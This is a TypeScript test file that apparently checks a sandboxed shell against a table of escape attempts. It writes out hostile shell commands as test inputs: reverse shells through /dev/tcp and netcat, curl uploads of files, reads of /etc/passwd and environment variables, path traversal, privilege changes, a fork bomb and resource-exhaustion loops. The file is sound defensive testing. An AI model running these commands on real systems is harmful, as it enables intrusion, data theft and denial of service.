import { afterAll, expect } from 'vitest'
import { createContainment } from '../containment.ts'
import { type Canary, type EscapeAttempt, testEscapes } from '../testing/escape-table.ts'
import { SmallMachine } from '../testing/small-machine.ts'
import type { ShellOutcome } from './shell-job.ts'

const DEADLINE_MS = 2000
const contained = createContainment({ workers: 2 })
afterAll(() => contained.close())

const run = (owner: string, command: string) =>
  contained.shell({ owner, command, machine: new SmallMachine(), limits: { deadlineMs: DEADLINE_MS } })

/** @param shows what the output must match; without it the command must fail or print nothing */
function attempt(title: string, command: (canary: Canary) => string, shows?: RegExp): EscapeAttempt {
  return {
    title,
    run: (canary) => run('attacker', command(canary)),
    expected: (answer) => {
      const outcome = answer as ShellOutcome
      if (outcome.kind === 'limit') return
      if (shows) expect(outcome.stdout + outcome.stderr).toMatch(shows)
      else expect(outcome.stdout === '' || outcome.exitCode !== 0).toBe(true)
    },
  }
}

testEscapes({
  power: 'the shell',
  deadlineMs: DEADLINE_MS,
  calm: () => run('calm', 'echo calm'),
  attempts: [
    attempt('reading a file of the host', ({ file }) => `cat ${file}`),
    attempt('reading it by a relative path', ({ file }) => `cat ../../../../../../..${file}`),
    attempt('reading it through a link', ({ file }) => `ln -s ${file} /tmp/l; cat /tmp/l`),
    attempt(
      'reading it through the folder of a process',
      ({ file }) => `cat /proc/self/root${file} /proc/1/root${file}`,
    ),
    attempt('reading it with an archive', ({ file }) => `tar cf - ${file}; gzip -c ${file}; base64 ${file}`),
    attempt('writing beside it', ({ folder }) => `mkdir -p ${folder}; echo x > ${folder}/new.txt; ls ${folder}`, /new/),
    attempt('removing it', ({ folder, file }) => `rm -rf ${folder} ${file}; ls ${folder}`),
    attempt('the accounts', () => 'cat /etc/passwd', /^root:x:0:0[\s\S]*juicer/),
    attempt('the environment', () => 'env; cat /proc/self/environ; printenv FRUIT_CANARY', /juicer/),
    attempt('process ids', () => 'echo $$ $PPID $BASHPID; ps aux', /^733 1/),
    attempt(
      'a program of the host',
      () => '/usr/bin/id; /usr/local/bin/node -e 1; perl -e 1; php -r 1; ruby -e 1',
      /./,
    ),
    attempt('JavaScript', () => 'node -e "process.exit(1)"; js-exec -c "1"; python3 -c "import os"', /not/),
    attempt(
      'JavaScript in arithmetic',
      () => 'echo $((process.exit(1))); a[process.exit]=1; awk "BEGIN { print process }"',
    ),
    attempt(
      'JavaScript in names',
      () =>
        // biome-ignore lint/suspicious/noTemplateCurlyInString: it is the shell's.
        'constructor=1; __proto__=2; echo $constructor$__proto__; declare -A m; m[__proto__]=3; m[constructor]=4; echo ${m[__proto__]}',
      /12\s+3/,
    ),
    attempt(
      'JavaScript in a query',
      () => `echo '{"a":1}' | jq '.constructor, .__proto__, .a.constructor.constructor'`,
      /null|Cannot index/,
    ),
    attempt('a reverse shell through a device', ({ host }) => `bash -i >& /dev/tcp/${host.replace(':', '/')} 0>&1`),
    attempt('reading from a network device', ({ host }) => `exec 3<>/dev/tcp/${host.replace(':', '/')}; cat <&3`),
    attempt('netcat', ({ host }) => `nc ${host.replace(':', ' ')} -e /bin/sh; ncat ${host}; socat - TCP:${host}`),
    attempt('curl to the host', ({ host }) => `curl http://${host}/; curl telnet://${host}; curl gopher://${host}/_x`),
    attempt(
      'curl of a file',
      ({ file }) => `curl file://${file}; curl -o - file:///etc/passwd; wget file://${file} -O -`,
    ),
    attempt(
      'curl that uploads a file',
      ({ file, host }) => `curl -T ${file} http://${host}/; curl -d @${file} http://${host}/`,
    ),
    attempt(
      'curl through a proxy',
      ({ host }) => `http_proxy=http://${host} curl -x http://${host} http://example.com/`,
    ),
    attempt(
      'curl with fixed addresses',
      ({ host }) => `curl --resolve a.test:80:${host.split(':')[0]} --connect-to ::${host} http://a.test/`,
    ),
    attempt(
      'name lookups',
      ({ host }) => `nslookup a.test ${host}; dig @127.0.0.1 a.test; ping -c 1 127.0.0.1; getent hosts a`,
    ),
    attempt(
      'changing the user',
      () => 'sudo id; su - root -c id; doas id; chmod u+s /bin/bash; chroot / id',
      /sudoers/,
    ),
    attempt('a fork bomb', () => ':(){ :|:& };:'),
    attempt('an endless loop', () => 'while :; do :; done'),
    attempt(
      'endless loops in other languages',
      () => 'awk "BEGIN { while (1) {} }"; echo a | sed ":a;ba"; jq -n "[recurse(1)]"',
    ),
    attempt('an endless text', () => 'a=x; while :; do a=$a$a; done; echo $a'),
    attempt('endless files', () => 'i=0; while :; do i=$((i+1)); printf "%01000000d" 1 > /tmp/$i; done'),
    attempt('endless output', () => 'yes | head -c 100000000; cat /dev/zero /dev/urandom; seq 1 100000000', /./),
    attempt(
      'a pattern with exponential backtracking',
      () => `echo ${'a'.repeat(60)}b | grep -E '^(a+)+$'; [[ ${'a'.repeat(60)}b =~ ^(a+)+$ ]]`,
    ),
    attempt(
      'huge brace expansions',
      () =>
        'echo {1..100000000}; echo {a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}',
      /./,
    ),
    attempt('a long sleep', () => 'sleep 3600'),
    attempt('deep nesting', () => `${'$('.repeat(500)}id${')'.repeat(500)}`),
    attempt('a long command', () => `echo ${'x'.repeat(100_000)}`, /too long/),
  ],
})
